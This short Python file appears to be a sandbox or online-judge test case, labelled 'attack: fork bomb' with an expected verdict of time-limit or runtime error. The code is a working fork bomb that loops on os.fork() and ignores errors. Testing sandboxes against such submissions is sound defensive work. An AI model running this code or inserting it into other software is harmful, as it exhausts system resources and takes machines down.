# attack: fork bomb
# verdict: TLE RTE
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
